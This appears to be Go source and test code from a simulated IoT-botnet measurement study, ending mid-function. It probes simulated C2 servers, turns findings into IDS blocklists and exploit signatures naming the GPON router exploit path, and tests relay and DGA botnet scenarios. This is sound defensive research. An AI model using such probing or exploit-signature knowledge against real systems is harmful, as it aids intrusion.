		Subnets: []simnet.Subnet{simnet.SubnetFrom("198.51.100.0/24")},
		Ports:   []uint16{1312},
		Rounds:  2,
	})
	if len(study.LiveC2s) != 0 {
		t.Fatalf("live C2s = %d in empty space", len(study.LiveC2s))
	}
	if study.ProbesSent != 2*254 {
		t.Fatalf("probes sent = %d, want %d", study.ProbesSent, 2*254)
	}
}

func TestProbePortsAreTable5(t *testing.T) {
	if len(ProbePorts) != 12 {
		t.Fatalf("ports = %d, want 12", len(ProbePorts))
	}
	want := map[uint16]bool{1312: true, 666: true, 1791: true, 9506: true, 606: true,
		6738: true, 5555: true, 1014: true, 3074: true, 6969: true, 42516: true, 81: true}
	for _, p := range ProbePorts {
		if !want[p] {
			t.Fatalf("unexpected port %d", p)
		}
	}
}

func TestRasterShape(t *testing.T) {
	n, subnet := probeWorld(t, c2.DutyCycle{}, true)
	study := RunProbing(n, ProbeConfig{
		Subnets: []simnet.Subnet{subnet},
		Ports:   []uint16{1312},
		Rounds:  4,
		Family:  c2.FamilyMirai,
	})
	raster := study.Raster()
	if len(raster) != 1 || len(raster[0]) != 4 {
		t.Fatalf("raster dims = %dx%d", len(raster), len(raster[0]))
	}
}

// TestProbingRetriesRecoverUnderFaults: with injected SYN loss a
// retry-less study misses rounds; the bounded-backoff retry layer
// recovers them, and the retry counter records the extra dials.
func TestProbingRetriesRecoverUnderFaults(t *testing.T) {
	run := func(retries int) *ProbeStudy {
		n, subnet := probeWorld(t, c2.DutyCycle{}, true)
		n.InstallFaults(faultinject.New(faultinject.Config{Seed: 21, SYNLossRate: 0.45}))
		return RunProbing(n, ProbeConfig{
			Subnets:  []simnet.Subnet{subnet},
			Ports:    []uint16{1312},
			Interval: 4 * time.Hour,
			Rounds:   6,
			Family:   c2.FamilyMirai,
			Retries:  retries,
			Seed:     21,
		})
	}
	bare := run(0)
	retried := run(4)

	bareHits, retriedHits := 0, 0
	if len(bare.LiveC2s) == 1 {
		bareHits = bare.LiveC2s[0].Engagements()
	}
	if len(retried.LiveC2s) != 1 {
		t.Fatalf("retried study found %d live C2s, want 1", len(retried.LiveC2s))
	}
	retriedHits = retried.LiveC2s[0].Engagements()

	if bareHits >= 6 {
		t.Fatalf("45%% SYN loss but retry-less study engaged all %d rounds; faults not biting", bareHits)
	}
	if retriedHits < 5 {
		t.Fatalf("retried engagements = %d, want >= 5 (bare study had %d)", retriedHits, bareHits)
	}
	if retriedHits <= bareHits {
		t.Fatalf("retries did not help: %d vs %d engagements", retriedHits, bareHits)
	}
	if retried.Retries == 0 {
		t.Fatal("retry counter stayed zero under 45% SYN loss")
	}
	if bare.Retries != 0 {
		t.Fatalf("retry-less study counted %d retries", bare.Retries)
	}
}
