package core

import (
	"fmt"
	"sort"

	"malnet/internal/ids"
	"malnet/internal/intel"
	"malnet/internal/vuln"
)

// GenerateRules turns a completed study into deployable firewall /
// IDS rules — the paper's "potential impact" pathway (§1, §6a):
// profiles of freshly-caught binaries become (a) a C2 blocklist,
// (b) exploit content signatures, and (c) a flood-rate tripwire.
//
// SID ranges: 1xxxxxx C2 blocklist, 2xxxxxx exploit signatures,
// 3000001 the rate rule.
func GenerateRules(st *Study) []*ids.Rule {
	var rules []*ids.Rule

	// (a) C2 blocklist: every verified C2 endpoint becomes a drop
	// rule on its IP (DNS-based C2s block the resolved address).
	var addrs []string
	byAddr := map[string]*C2Record{}
	for a, r := range st.C2s {
		if r.Verified && r.IP.IsValid() {
			addrs = append(addrs, a)
			byAddr[a] = r
		}
	}
	sort.Strings(addrs)
	for i, a := range addrs {
		r := byAddr[a]
		kind := "IP"
		if r.Kind == intel.KindDNS {
			kind = "DNS"
		}
		rules = append(rules, &ids.Rule{
			SID:    1000001 + i,
			Action: ids.ActionDrop,
			Msg:    fmt.Sprintf("MalNet C2 %s (%s, %d samples)", r.Address, kind, len(r.Samples)),
			Proto:  "tcp",
			DstIP:  r.IP,
		})
	}

	// (b) Exploit signatures: one content rule per vulnerability
	// actually observed in D-Exploits, on its target port.
	seen := map[string]bool{}
	var keys []string
	for _, f := range st.Exploits {
		for _, v := range f.Vulns {
			if !seen[v.Key] {
				seen[v.Key] = true
				keys = append(keys, v.Key)
			}
		}
	}
	sort.Strings(keys)
	byKey := vuln.ByKey()
	for i, key := range keys {
		v := byKey[key]
		rules = append(rules, &ids.Rule{
			SID:     2000001 + i,
			Action:  ids.ActionAlert,
			Msg:     fmt.Sprintf("MalNet exploit %s (%s)", v.Label(), v.Device),
			Proto:   "tcp",
			DstPort: v.Port,
			Content: []byte(v.Signature),
		})
	}

	// (c) Flood tripwire at the study's detection threshold.
	rules = append(rules, &ids.Rule{
		SID:    3000001,
		Action: ids.ActionAlert,
		Msg:    "MalNet flood rate",
		MinPPS: st.Cfg.Analysis.DDoS.RateThreshold,
	})
	return rules
}
