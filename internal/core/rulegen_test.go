package core

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"malnet/internal/ids"
	"malnet/internal/intel"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
	"malnet/internal/vuln"
)

// ruleStudy builds a minimal hand-rolled study for rule generation.
func ruleStudy() *Study {
	st := &Study{Cfg: DefaultStudyConfig(1), C2s: map[string]*C2Record{}}
	st.C2s["60.0.0.9:23"] = &C2Record{
		Address: "60.0.0.9:23", Kind: intel.KindIP,
		IP: netip.MustParseAddr("60.0.0.9"), Port: 23,
		Samples: []string{"a", "b"}, Verified: true,
	}
	st.C2s["cnc.example.net:666"] = &C2Record{
		Address: "cnc.example.net:666", Kind: intel.KindDNS,
		IP: netip.MustParseAddr("61.0.0.5"), Port: 666,
		Samples: []string{"c"}, Verified: true,
	}
	st.C2s["62.0.0.1:23"] = &C2Record{ // unverified: no rule
		Address: "62.0.0.1:23", Kind: intel.KindIP,
		IP: netip.MustParseAddr("62.0.0.1"), Port: 23,
	}
	gpon := vuln.ByKey()["gpon-rce"]
	st.Exploits = []ExploitFinding{{SHA256: "a", Vulns: []*vuln.Vulnerability{gpon}, Port: 80}}
	return st
}

func TestGenerateRulesShape(t *testing.T) {
	rules := GenerateRules(ruleStudy())
	var drops, alerts, rates int
	for _, r := range rules {
		switch {
		case r.MinPPS > 0:
			rates++
		case r.Action == ids.ActionDrop:
			drops++
		default:
			alerts++
		}
	}
	if drops != 2 {
		t.Fatalf("drop rules = %d, want 2 (verified C2s only)", drops)
	}
	if alerts != 1 {
		t.Fatalf("alert rules = %d, want 1 (gpon signature)", alerts)
	}
	if rates != 1 {
		t.Fatalf("rate rules = %d, want 1", rates)
	}
}

func TestGeneratedRulesRoundTrip(t *testing.T) {
	rules := GenerateRules(ruleStudy())
	text := ids.RenderAll(rules)
	parsed, err := ids.ParseAll(text)
	if err != nil {
		t.Fatalf("parse own output: %v\n%s", err, text)
	}
	if len(parsed) != len(rules) {
		t.Fatalf("parsed %d of %d", len(parsed), len(rules))
	}
}

func TestGeneratedRulesContainABot(t *testing.T) {
	// End-to-end impact check (§6a): deploy the generated C2
	// blocklist at a "customer" perimeter; an infected host there
	// can no longer reach the profiled C2.
	rules := GenerateRules(ruleStudy())
	engine := ids.NewEngine(rules)

	clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
	n := simnet.New(clock, simnet.DefaultConfig())
	c2Host := n.AddHost(netip.MustParseAddr("60.0.0.9"))
	sessions := 0
	c2Host.ListenTCP(23, func(local, remote simnet.Addr) simnet.ConnHandler {
		sessions++
		return simnet.ConnFuncs{}
	})
	infected := n.AddHost(netip.MustParseAddr("10.0.0.7"))
	infected.Egress = engine.EgressGate(clock)
	gotErr := error(nil)
	infected.DialTCP(simnet.AddrFrom("60.0.0.9", 23), simnet.ConnFuncs{
		Close: func(c *simnet.Conn, err error) { gotErr = err },
	})
	clock.RunFor(time.Minute)
	if sessions != 0 {
		t.Fatal("blocklisted C2 accepted a session through the perimeter")
	}
	if gotErr != simnet.ErrTimeout {
		t.Fatalf("dial err = %v, want contained timeout", gotErr)
	}
	if len(engine.Alerts) == 0 {
		t.Fatal("no alert logged for the contained call-home")
	}
}

func TestGenerateRulesMessagesNameTheEvidence(t *testing.T) {
	rules := GenerateRules(ruleStudy())
	text := ids.RenderAll(rules)
	for _, want := range []string{"60.0.0.9:23", "cnc.example.net:666", "CVE-2018-10561", "/GponForm/diag_Form"} {
		if !strings.Contains(text, want) {
			t.Fatalf("rules missing %q:\n%s", want, text)
		}
	}
}
