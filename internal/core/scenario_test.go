package core

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"malnet/internal/c2"
	"malnet/internal/checkpoint"
	"malnet/internal/intel"
	"malnet/internal/obs"
	"malnet/internal/world"
)

// scenWorldConfig sizes the scenario-pack worlds: a modest base feed
// plus the default wisp (p2p-relay) and sora (DGA churn) packs. The
// pack mechanics under test don't depend on base-feed volume.
func scenWorldConfig(seed int64) world.Config {
	wcfg := world.DefaultConfig(seed)
	wcfg.TotalSamples = 120
	wcfg.Scenario.Families = []string{c2.FamilyWisp, c2.FamilySora}
	wcfg.Scenario.Defaults()
	return wcfg
}

func scenStudy(t *testing.T, seed int64, workers int) *Study {
	t.Helper()
	scfg := DefaultStudyConfig(seed)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = workers
	st, err := RunStudyContext(context.Background(), world.Generate(scenWorldConfig(seed)), scfg)
	if err != nil {
		t.Fatalf("scenario study failed: %v", err)
	}
	return st
}

// assertScenarioContent checks that the packs actually flowed through
// the pipeline: pack samples got dispositions, wisp DDoS commands are
// attributed to relay addresses (the hidden origins never appear),
// and sora's rotating DGA domains show up as C2 records.
func assertScenarioContent(t *testing.T, st *Study) {
	t.Helper()
	w := world.Generate(scenWorldConfig(st.Cfg.Determinism.Seed))
	relays := map[string]bool{}
	origins := map[string]bool{}
	for addr, cs := range w.C2s {
		if cs.Family != c2.FamilyWisp {
			continue
		}
		if cs.RelayUpstream != "" {
			relays[addr] = true
		} else {
			origins[addr] = true
		}
	}
	if len(relays) == 0 || len(origins) == 0 {
		t.Fatal("scenario world has no wisp relay mesh")
	}

	famBySHA := map[string]string{}
	packSamples := map[string]int{}
	for _, s := range st.Samples {
		famBySHA[s.SHA] = s.Family
		if s.Family == c2.FamilyWisp || s.Family == c2.FamilySora {
			packSamples[s.Family]++
		}
	}
	if packSamples[c2.FamilyWisp] == 0 || packSamples[c2.FamilySora] == 0 {
		t.Fatalf("pack samples missing from D-Samples: %v", packSamples)
	}

	relayDDoS := 0
	for _, o := range st.DDoS {
		if famBySHA[o.SHA256] != c2.FamilyWisp {
			continue
		}
		if origins[o.C2] {
			t.Fatalf("wisp DDoS observation attributes hidden origin %s", o.C2)
		}
		if relays[o.C2] {
			relayDDoS++
		}
	}
	if relayDDoS == 0 {
		t.Fatal("no wisp DDoS observation attributed to a relay address")
	}

	dgaC2s := 0
	for addr, r := range st.C2s {
		if strings.Contains(addr, c2.FamilySora+"-gen.xyz") {
			dgaC2s++
			if r.Kind != intel.KindDNS {
				t.Fatalf("DGA C2 %s recorded as %v, want domain", addr, r.Kind)
			}
		}
	}
	if dgaC2s < 2 {
		t.Fatalf("want ≥2 rotating DGA domains in D-C2s, got %d", dgaC2s)
	}
}

// TestScenarioStudyEquivalence extends the executor's parallel
// contract to scenario packs: with wisp's relay mesh and sora's DGA
// churn enabled, workers 1/2/8 must still render byte-identical
// datasets — relay command forwarding and endpoint churn ride the
// same deterministic planes as everything else.
func TestScenarioStudyEquivalence(t *testing.T) {
	const seed = 23
	refStudy := scenStudy(t, seed, 1)
	assertScenarioContent(t, refStudy)
	ref := renderDatasets(refStudy)
	for _, workers := range []int{2, 8} {
		got := renderDatasets(scenStudy(t, seed, workers))
		if got == ref {
			continue
		}
		refLines := strings.Split(ref, "\n")
		gotLines := strings.Split(got, "\n")
		for i := 0; i < len(refLines) && i < len(gotLines); i++ {
			if refLines[i] != gotLines[i] {
				t.Fatalf("workers=%d diverges at line %d:\nref: %s\ngot: %s",
					workers, i+1, refLines[i], gotLines[i])
			}
		}
		t.Fatalf("workers=%d differs in length: %d vs %d lines", workers, len(gotLines), len(refLines))
	}
}

// runScenCkptStudy is runCkptStudy against a scenario-packed world.
func runScenCkptStudy(t *testing.T, seed int64, workers int, journalPath, ckptDir string, resume bool, killDay int) studyOutput {
	t.Helper()
	w := world.Generate(scenWorldConfig(seed))
	scfg := ckptStudyConfig(seed, workers)
	scfg.Durability = CheckpointConfig{Dir: ckptDir, Resume: resume}

	jf, err := os.OpenFile(journalPath, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer jf.Close()
	scfg.Observability.Obs = obs.NewObserver()
	scfg.Observability.Obs.SetJournal(jf)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if killDay >= 0 {
		w.Clock.Schedule(world.StudyStart().AddDate(0, 0, killDay), cancel)
	}
	st, err := RunStudyContext(ctx, w, scfg)
	if killDay >= 0 {
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("killed run (day %d): want context.Canceled, got %v", killDay, err)
		}
	} else if err != nil {
		t.Fatalf("study failed: %v", err)
	}
	if err := scfg.Observability.Obs.Flush(); err != nil {
		t.Fatalf("journal flush: %v", err)
	}
	jb, err := os.ReadFile(journalPath)
	if err != nil {
		t.Fatal(err)
	}
	return studyOutput{
		datasets: renderDatasets(st),
		metrics:  st.Metrics().Snapshot(),
		journal:  string(jb),
	}
}

// TestScenarioCheckpointResumeEquivalence kills a scenario-packed
// study mid-campaign (day 90 lands inside sora's DGA rotation and
// wisp's relay attack cadence) and resumes it; the result must be
// byte-identical to a run that was never interrupted — relay attack
// chains and domain churn restore from the snapshot like any other
// scheduled work.
func TestScenarioCheckpointResumeEquivalence(t *testing.T) {
	const seed = 23
	base := t.TempDir()
	ref := runScenCkptStudy(t, seed, 1, filepath.Join(base, "ref.jsonl"), "", false, -1)
	if len(ref.datasets) < 200 {
		t.Fatalf("reference render suspiciously small (%d bytes)", len(ref.datasets))
	}

	ckptDir := filepath.Join(base, "ckpt")
	journal := filepath.Join(base, "run.jsonl")
	runScenCkptStudy(t, seed, 2, journal, ckptDir, false, 90)
	got := runScenCkptStudy(t, seed, 2, journal, ckptDir, true, -1)

	for _, cmp := range []struct {
		what, got, want string
	}{
		{"datasets", got.datasets, ref.datasets},
		{"metrics", got.metrics, ref.metrics},
		{"journal", got.journal, ref.journal},
	} {
		if cmp.got == cmp.want {
			continue
		}
		gl, wl := strings.Split(cmp.got, "\n"), strings.Split(cmp.want, "\n")
		for i := 0; i < len(gl) && i < len(wl); i++ {
			if gl[i] != wl[i] {
				t.Fatalf("resumed %s diverges at line %d:\nresumed:  %s\nstraight: %s",
					cmp.what, i+1, gl[i], wl[i])
			}
		}
		t.Fatalf("resumed %s differs in length: %d vs %d lines", cmp.what, len(gl), len(wl))
	}
}

// TestScenarioFingerprintRefusesChange: a checkpoint written with one
// scenario configuration must not seed a run with another — the
// refusal error names the scenario section.
func TestScenarioFingerprintRefusesChange(t *testing.T) {
	ckptDir := t.TempDir()
	w := world.Generate(scenWorldConfig(29))
	scfg := ckptStudyConfig(29, 2)
	scfg.Analysis.Probing = false
	scfg.Durability = CheckpointConfig{Dir: ckptDir}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	w.Clock.Schedule(world.StudyStart().AddDate(0, 0, 17), cancel)
	if _, err := RunStudyContext(ctx, w, scfg); !errors.Is(err, context.Canceled) {
		t.Fatalf("killed run: %v", err)
	}
	if snap, _, _ := checkpoint.Latest(ckptDir); snap == nil {
		t.Fatal("killed run left no checkpoint to test against")
	}

	// Resume with the DGA pack dropped: same base world, different
	// scenario section.
	wcfg2 := scenWorldConfig(29)
	wcfg2.Scenario.Families = []string{c2.FamilyWisp}
	w2 := world.Generate(wcfg2)
	scfg2 := ckptStudyConfig(29, 2)
	scfg2.Analysis.Probing = false
	scfg2.Durability = CheckpointConfig{Dir: ckptDir, Resume: true}
	_, err := RunStudyContext(context.Background(), w2, scfg2)
	if err == nil {
		t.Fatal("resume under a different scenario did not fail")
	}
	if !strings.Contains(strings.ToLower(err.Error()), "scenario") {
		t.Fatalf("mismatch error does not name the scenario section: %v", err)
	}
}
