package core

import (
	"context"
	"fmt"
	"net/netip"
	"sort"
	"strings"
	"time"

	"malnet/internal/c2"
	"malnet/internal/faultinject"
	"malnet/internal/intel"
	"malnet/internal/obs"
	"malnet/internal/sandbox"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

// StudyConfig parameterizes the year-long measurement run. It is
// grouped into sub-configs by concern; json.Marshal over a StudyConfig
// yields the run's canonical serialization — the non-reproducible
// surfaces (worker count, callbacks, checkpoint paths) are excluded
// via struct tags, so two configs marshal identically exactly when
// they would produce byte-identical study output. The checkpoint
// config fingerprint is built on that property (see checkpoint.go).
type StudyConfig struct {
	// Analysis holds the paper's measurement knobs.
	Analysis AnalysisConfig `json:"analysis"`
	// Windows holds the virtual-time sandbox windows.
	Windows WindowsConfig `json:"windows"`
	// Determinism holds the seeds and the execution knobs covered by
	// the byte-identical-output contract.
	Determinism DeterminismConfig `json:"determinism"`
	// Scenario selects the spec-driven scenario packs the study's
	// world was generated with. Part of the canonical serialization,
	// so a resumed run refuses a checkpoint written under a different
	// scenario. A zero value is filled from the world's config when
	// the study starts.
	Scenario world.ScenarioConfig `json:"scenario"`
	// Durability makes the run resumable: snapshots written at
	// day-batch boundaries. Where a snapshot lives never changes what
	// the study computes, so the group is excluded from the canonical
	// serialization. See checkpoint.go.
	Durability CheckpointConfig `json:"-"`
	// Observability carries the run's telemetry sinks and callbacks;
	// wall-clock only, never part of the canonical serialization.
	Observability ObservabilityConfig `json:"-"`
}

// AnalysisConfig groups the measurement-pipeline knobs (§2's
// collection, validation, and extraction parameters).
type AnalysisConfig struct {
	// HandshakerThreshold is the distinct-IP port threshold
	// (paper: 20).
	HandshakerThreshold int `json:"handshaker_threshold"`
	// MinEngines is the corroboration threshold (paper: 5).
	MinEngines int `json:"min_engines"`
	// DDoS tunes command extraction.
	DDoS DDoSExtractorConfig `json:"ddos"`
	// Probing enables the D-PC2 study; ProbeRounds 0 means the
	// paper's 84.
	Probing     bool `json:"probing"`
	ProbeRounds int  `json:"probe_rounds"`
	// DelayDays delays each sample's analysis past its publication
	// day (0 = same-day, the paper's headline practice; ablations
	// vary it).
	DelayDays int `json:"analysis_delay_days"`
}

// WindowsConfig groups the virtual-time analysis windows.
type WindowsConfig struct {
	// Sandbox is the isolated analysis window per sample.
	Sandbox time.Duration `json:"sandbox_window"`
	// Live is the restricted live window for samples with a live C2
	// (the paper's 2 hours).
	Live time.Duration `json:"live_window"`
}

// DeterminismConfig groups the seeds and execution knobs under the
// determinism contract: for a fixed group value, study output is
// byte-identical at every worker count.
type DeterminismConfig struct {
	// Seed drives per-run determinism.
	Seed int64 `json:"seed"`
	// Workers sizes the worker pool for the parallel static +
	// isolated-sandbox stage. 0 means GOMAXPROCS; values below 0
	// are clamped to 1. Study output is byte-identical at every
	// worker count (see TestParallelStudyEquivalence), which is why
	// Workers is excluded from the canonical serialization.
	Workers int `json:"-"`
	// Faults installs a deterministic fault-injection plan (packet
	// loss, resets, latency spikes, blackouts, slow drips) on the
	// world network and on every worker shard, arms probe retries,
	// and bounds activations with the sandbox watchdog. The fault
	// schedule is a pure function of FaultSeed, so a faulted study is
	// still byte-identical at any worker count (the chaos equivalence
	// suite asserts this).
	Faults bool `json:"faults"`
	// FaultSeed seeds the fault plan; 0 means Seed.
	FaultSeed int64 `json:"fault_seed"`
	// EventBudget arms the per-activation watchdog (events per
	// sandbox run before a hung emulation is aborted as TimedOut).
	// 0 with Faults on picks a generous default; 0 without Faults
	// leaves the watchdog off, the historical behavior.
	EventBudget int `json:"event_budget"`
}

// ObservabilityConfig groups the run's telemetry sinks. Everything
// here is wall-clock-plane: present or absent, it never changes the
// deterministic outputs (the journal's *contents* are deterministic,
// but whether one is attached is fingerprinted separately because it
// decides whether events are retained at all).
type ObservabilityConfig struct {
	// Obs receives the study's telemetry: deterministic metrics and
	// virtual-time trace on the Root recorder (journaled when a
	// Journal is set), wall-clock profiling on Wall. Nil gets a fresh
	// Observer, so instrumentation is always on; the snapshot is part
	// of the determinism contract (byte-identical at any worker
	// count), the Wall plane is not.
	Obs *obs.Observer `json:"-"`
	// Progress, when non-nil, is called from the merge goroutine
	// every 1000 merged feed entries (and once at study end) with
	// wall-clock throughput so long studies are not silent. The
	// callback must not mutate study state.
	Progress func(ProgressUpdate) `json:"-"`
}

// progressEvery is the merge-count period of Progress callbacks.
const progressEvery = 1000

// ProgressUpdate is one Progress callback's payload.
type ProgressUpdate struct {
	// Processed counts merged feed entries (including filtered and
	// rejected ones); Accepted counts D-Samples rows so far.
	Processed, Accepted int
	// Dispositions tallies accepted samples by day-0 disposition.
	Dispositions map[Disposition]int
	// Elapsed is wall-clock time since the study started; Rate is
	// Processed/Elapsed in entries per second.
	Elapsed time.Duration
	Rate    float64
}

// faultPlan derives the study's fault plan; nil when faults are off.
func (cfg *StudyConfig) faultPlan() *faultinject.Plan {
	if !cfg.Determinism.Faults {
		return nil
	}
	seed := cfg.Determinism.FaultSeed
	if seed == 0 {
		seed = cfg.Determinism.Seed
	}
	return faultinject.New(faultinject.DefaultConfig(seed))
}

// Defaults returns the paper's settings for seed.
func Defaults(seed int64) StudyConfig {
	return StudyConfig{
		Analysis: AnalysisConfig{
			HandshakerThreshold: 20,
			MinEngines:          5,
			DDoS:                DefaultDDoSExtractorConfig(),
			Probing:             true,
		},
		Windows: WindowsConfig{
			Sandbox: 15 * time.Minute,
			Live:    2 * time.Hour,
		},
		Determinism: DeterminismConfig{Seed: seed},
	}
}

// DefaultStudyConfig is Defaults under its historical name.
func DefaultStudyConfig(seed int64) StudyConfig { return Defaults(seed) }

// Validate checks the config for values no defaulting rule can
// repair, and names every offending field (dotted-path into the
// canonical serialization) in the error. A zero or defaulted config
// is always valid.
func (cfg *StudyConfig) Validate() error {
	var bad []string
	reject := func(field, why string) { bad = append(bad, field+" ("+why+")") }
	if cfg.Windows.Sandbox < 0 {
		reject("windows.sandbox_window", "negative")
	}
	if cfg.Windows.Live < 0 {
		reject("windows.live_window", "negative")
	}
	if cfg.Analysis.HandshakerThreshold < 0 {
		reject("analysis.handshaker_threshold", "negative")
	}
	if cfg.Analysis.MinEngines < 0 {
		reject("analysis.min_engines", "negative")
	}
	if cfg.Analysis.ProbeRounds < 0 {
		reject("analysis.probe_rounds", "negative")
	}
	if cfg.Analysis.DelayDays < 0 {
		reject("analysis.analysis_delay_days", "negative")
	}
	if cfg.Analysis.DDoS.RateThreshold < 0 {
		reject("analysis.ddos.rate_threshold", "negative")
	}
	if cfg.Determinism.EventBudget < 0 {
		reject("determinism.event_budget", "negative")
	}
	if cfg.Durability.Every < 0 {
		reject("durability.every", "negative")
	}
	if cfg.Durability.Resume && cfg.Durability.Dir == "" {
		reject("durability.resume", "needs durability.dir")
	}
	if err := cfg.Scenario.Validate(); err != nil {
		reject("scenario", err.Error())
	}
	if len(bad) == 0 {
		return nil
	}
	return fmt.Errorf("invalid study config: %s", strings.Join(bad, ", "))
}

// Disposition classifies how a sample's day-0 C2 liveness resolved
// under the fault-aware pipeline.
type Disposition uint8

// Dispositions, in the order the pipeline can strengthen them.
const (
	// DispNone: the sample never reached the liveness stage (P2P,
	// failed isolated run, or not analyzed).
	DispNone Disposition = iota
	// DispDead: no C2 engaged during the day-0 window.
	DispDead
	// DispAlive: a C2 engaged on the first attempt.
	DispAlive
	// DispRetriedThenAlive: a C2 engaged, but only after the bot
	// re-dialed through injected faults.
	DispRetriedThenAlive
	// DispTimedOut: the activation watchdog aborted a hung window.
	DispTimedOut
)

// String names the disposition for dataset rows.
func (d Disposition) String() string {
	switch d {
	case DispDead:
		return "dead"
	case DispAlive:
		return "alive"
	case DispRetriedThenAlive:
		return "retried-then-alive"
	case DispTimedOut:
		return "timed-out"
	}
	return "none"
}

// SampleRecord is one D-Samples row.
type SampleRecord struct {
	SHA  string
	Date time.Time
	// FamilyYARA and FamilyAVClass are the two labelers' verdicts;
	// Family is the resolved label (YARA preferred).
	FamilyYARA, FamilyAVClass, Family string
	// Detections is the number of flagging engines at collection.
	Detections int
	// P2P marks samples excluded from D-C2s.
	P2P bool
	// Activated reports whether the sample passed its anti-sandbox
	// gate in the isolated run (§6f activation rate).
	Activated bool
	// C2s are the detected endpoints.
	C2s []C2Candidate
	// LiveDay0 reports whether any C2 engaged on analysis day.
	LiveDay0 bool
	// Exploits are the sample's classified handshaker catches.
	Exploits []ExploitFinding
	// DDoS are attack commands observed during the live window.
	DDoS []DDoSObservation
	// Disposition summarizes the day-0 liveness path (alive on the
	// first dial, alive only after retries, dead, or watchdog-aborted).
	Disposition Disposition
	// C2Retries counts failed C2 dial attempts the sample burned
	// before (or without) establishing a session in the day-0 window.
	C2Retries int
	// Faults totals the network faults injected across the sample's
	// sandbox windows (isolated and live); zero in clean studies.
	Faults simnet.FaultStats
}

// C2Record is one D-C2s row: a C2 address aggregated across every
// binary that referenced it.
type C2Record struct {
	Address string
	Kind    intel.AddrKind
	IP      netip.Addr
	Port    uint16
	// Samples are the SHAs of binaries using this C2, in
	// discovery order.
	Samples []string
	// FirstSeen/LastSeen bound the pipeline's observations (the
	// observed-lifespan endpoints).
	FirstSeen, LastSeen time.Time
	// EverLive reports engagement during any analysis window.
	EverLive bool
	// Signature is the protocol artifact that identified it, if
	// any.
	Signature string
	// Day0Malicious / Day0Vendors: the VT query on discovery day.
	Day0Malicious bool
	Day0Vendors   int
	// May7Malicious / May7Vendors: the May 7, 2022 re-query.
	May7Malicious bool
	May7Vendors   int
	// Verified reports the §2.3a validation: flagged by VT
	// (either query) or matched a known C2 protocol.
	Verified bool
}

// LifespanDays is the observed lifespan in days, floored at one.
func (r *C2Record) LifespanDays() float64 {
	d := r.LastSeen.Sub(r.FirstSeen).Hours() / 24
	if d < 1 {
		return 1
	}
	return d
}

// Study is the full measurement output: the five datasets.
type Study struct {
	Cfg StudyConfig
	W   *world.World

	// Samples is D-Samples (accepted binaries only).
	Samples []*SampleRecord
	// Rejected counts feed binaries failing the >=5-engine bar.
	Rejected int
	// FilteredArch counts feed downloads skipped for not being
	// MIPS 32B executables (§2.2's collection filter).
	FilteredArch int
	// C2s is D-C2s keyed by address.
	C2s map[string]*C2Record
	// Exploits is D-Exploits (one entry per sample-vulnerability
	// finding).
	Exploits []ExploitFinding
	// DDoS is D-DDOS.
	DDoS []DDoSObservation
	// Probe is D-PC2 (nil when probing is disabled).
	Probe *ProbeStudy
	// ProbeGafgyt is the second weaponized sweep; Probe holds the
	// Mirai one. MergedLiveC2s unions them.
	ProbeGafgyt *ProbeStudy

	// obs is the study's observer (never nil after RunStudyContext).
	obs *obs.Observer
	// processed counts merged feed entries for Progress pacing;
	// lastProgress is the processed count at the last Progress tick,
	// so the final tick fires exactly when something went unreported.
	processed    int
	lastProgress int
	// wallStart anchors Progress throughput arithmetic.
	wallStart time.Time
}

// Obs returns the study's observer (nil only for hand-built Study
// values that never went through RunStudy).
func (st *Study) Obs() *obs.Observer { return st.obs }

// Metrics returns the deterministic metrics registry, nil-safe to
// read from for hand-built studies.
func (st *Study) Metrics() *obs.Registry {
	if st.obs == nil {
		return nil
	}
	return st.obs.Root.Registry()
}

// MergedLiveC2s unions the two weaponized sweeps' live C2 sets.
func (st *Study) MergedLiveC2s() []*ProbeTarget {
	seen := map[string]*ProbeTarget{}
	for _, study := range []*ProbeStudy{st.Probe, st.ProbeGafgyt} {
		if study == nil {
			continue
		}
		for _, t := range study.LiveC2s {
			if _, ok := seen[t.Addr.String()]; !ok {
				seen[t.Addr.String()] = t
			}
		}
	}
	out := make([]*ProbeTarget, 0, len(seen))
	for _, t := range seen {
		out = append(out, t)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Addr.String() < out[j].Addr.String() })
	return out
}

// RunStudy executes the full pipeline against a generated world:
// daily collection, same-day sandbox analysis, threat-intel
// cross-validation, exploit capture, DDoS eavesdropping, and (when
// enabled) the two-week active-probing study.
func RunStudy(w *world.World, cfg StudyConfig) *Study {
	st, _ := RunStudyContext(context.Background(), w, cfg)
	return st
}

// RunStudyContext is RunStudy with cancellation: when ctx is
// cancelled the executor stops dispatching, waits for in-flight
// sandbox runs, shuts the worker pool down, and returns the partial
// study together with ctx's error. A nil error means the study ran
// to completion.
func RunStudyContext(ctx context.Context, w *world.World, cfg StudyConfig) (*Study, error) {
	// The scenario section describes the world, so its source of
	// truth is the world's config: a zero study scenario adopts it
	// (putting it under the checkpoint fingerprint), a non-zero one
	// must agree with it — a study claiming a different scenario than
	// its world was generated with can only produce nonsense.
	cfg.Scenario.Defaults() // normalize before comparing: Generate defaulted the world's copy
	if cfg.Scenario.IsZero() {
		cfg.Scenario = w.Cfg.Scenario
	} else if !cfg.Scenario.Equal(w.Cfg.Scenario) {
		return &Study{Cfg: cfg, W: w, C2s: map[string]*C2Record{}},
			fmt.Errorf("invalid study config: scenario (does not match the world's scenario configuration)")
	}
	if err := cfg.Validate(); err != nil {
		return &Study{Cfg: cfg, W: w, C2s: map[string]*C2Record{}}, err
	}
	if cfg.Windows.Sandbox <= 0 {
		cfg.Windows.Sandbox = 15 * time.Minute
	}
	if cfg.Windows.Live <= 0 {
		cfg.Windows.Live = 2 * time.Hour
	}
	if cfg.Analysis.MinEngines <= 0 {
		cfg.Analysis.MinEngines = 5
	}
	if cfg.Observability.Obs == nil {
		cfg.Observability.Obs = obs.NewObserver()
	}
	plan := cfg.faultPlan()
	if plan != nil {
		if cfg.Determinism.EventBudget <= 0 {
			// Generous per-activation ceiling: orders of magnitude
			// above a healthy run, small enough that a retry storm
			// cannot wedge a worker.
